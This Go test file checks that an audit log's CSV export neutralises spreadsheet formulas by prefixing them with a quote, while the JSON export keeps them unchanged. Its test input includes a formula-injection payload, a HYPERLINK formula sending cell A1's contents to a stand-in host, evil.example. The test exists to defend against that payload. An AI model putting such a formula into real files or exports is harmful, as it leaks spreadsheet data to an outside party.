package handlers_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/vpcep-console/vpcep-console/internal/audit"
	"github.com/vpcep-console/vpcep-console/internal/testdb"
)

// TestCSVExportNeutralisesFormulas: a reason a spreadsheet would run is
// exported with a quote in front; the JSON export keeps it as it is.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	a := newApp(t, withDB(testdb.Migrated(t)))
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	ctx := context.Background()
	for _, reason := range []string{evil, "-1"} {
		e, err := a.audit.Begin(ctx, audit.Start{
			Actor: "mallory", ProjectID: projectID, Region: "cn-north-4", EndpointID: "ep-1",
			EndpointServiceName: "com.myhuaweicloud.cn-north-4.obs", Action: audit.ActionUpdate, Reason: reason,
			PolicyBefore: `[]`, PolicyRequested: `[{"Action":["obs:*"],"Effect":"Allow","Resource":["*"]}]`,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := a.audit.Finalise(ctx, e, audit.Final{Outcome: audit.OutcomeSucceeded, ResponseStatus: 200}); err != nil {
			t.Fatal(err)
		}
	}
	r := a.get(t, "/audit.csv")
	rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	if got := rows[1][col["reason"]]; got != "'-1" {
		t.Errorf("reason -1 exported as %q", got)
	}
	if got := rows[2][col["reason"]]; got != "'"+evil {
		t.Errorf("formula exported as %q", got)
	}
	if got := rows[1][col["policy_requested"]]; !strings.HasPrefix(got, "[") {
		t.Errorf("policy cell changed: %q", got)
	}
	var entries []audit.Entry
	if err := json.Unmarshal(a.get(t, "/audit.json").Body.Bytes(), &entries); err != nil || len(entries) != 2 {
		t.Fatalf("json: %v", err)
	}
	if entries[1].Reason != evil || entries[0].Reason != "-1" {
		t.Errorf("JSON export changed the reasons: %q, %q", entries[0].Reason, entries[1].Reason)
	}
}
